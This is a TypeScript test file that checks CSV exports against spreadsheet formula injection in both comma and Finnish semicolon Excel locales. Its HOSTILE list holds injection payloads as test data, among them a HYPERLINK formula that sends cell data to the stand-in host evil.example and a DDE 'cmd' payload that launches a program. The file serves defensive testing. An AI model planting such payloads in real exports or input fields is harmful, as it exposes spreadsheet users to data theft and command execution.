import assert from "node:assert/strict";
import { csvCell, toCsv } from "../../src/platform/text/csv";
import { formulaCells, splitLikeExcel } from "../../testing/excel-csv";

/** What a registrant or an organiser can type into a name, organisation or note. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1;"klikkaa")',
  "Virtanen;=1+1",
  "Virtanen,=1+1",
  "Oy;+358 40 123",
  "Ab;-2+3",
  "x;@SUM(A1)",
  'x;"=cmd|" /c calc"!A0',
  'x,"";"=1',
  "rivi\n=1+1",
  "rivi\r\n@SUM(1)",
  "a;\t=1",
  "a\t=1",
  "\r=1",
  ";;=1",
];

/**
 * Issue #26 item 6: no cell of an exported CSV becomes a formula, whether the file is opened by
 * Excel splitting on `,` (English) or on `;` (Finnish and Swedish locales), and whether the file
 * itself is `,`- or `;`-separated.
 */
describe("platform: CSV is formula-safe in Finnish Excel too", () => {
  for (const separator of [",", ";"] as const) {
    for (const excel of [",", ";"] as const) {
      it(`a '${separator}'-file opened by Excel splitting on '${excel}' has no formula cell`, () => {
        const file = toCsv([["name", "organisation"], ...HOSTILE.map((v) => [v, `${v} ry`])], { separator });
        assert.deepEqual(formulaCells(splitLikeExcel(file, excel)), []);
      });
    }
  }

  it("keeps the text readable: only the formula character gets an apostrophe, the rest is as typed", () => {
    assert.equal(csvCell("Virtanen;=1+1"), '"Virtanen;\'=1+1"');
    assert.equal(csvCell("Oy;+358 40 123"), '"Oy;\'+358 40 123"');
    assert.equal(csvCell("Matti Meikäläinen, Helsinki"), '"Matti Meikäläinen, Helsinki"');
    assert.equal(csvCell("Kunta - kaupunki"), "Kunta - kaupunki");
    assert.equal(csvCell(-5), "-5", "numbers the app writes are not user text");
  });

  it("a ';'-file is read back whole by Finnish Excel: one cell per value, quotes and separators kept", () => {
    const values = ['Aino "Aikku" Virtanen', "A;B", "C,D", "rivi\nkaksi", "Åsa"];
    const [row] = splitLikeExcel(toCsv([values], { separator: ";" }), ";").filter((r) => r.length > 1);
    assert.deepEqual(row, values);
  });
});
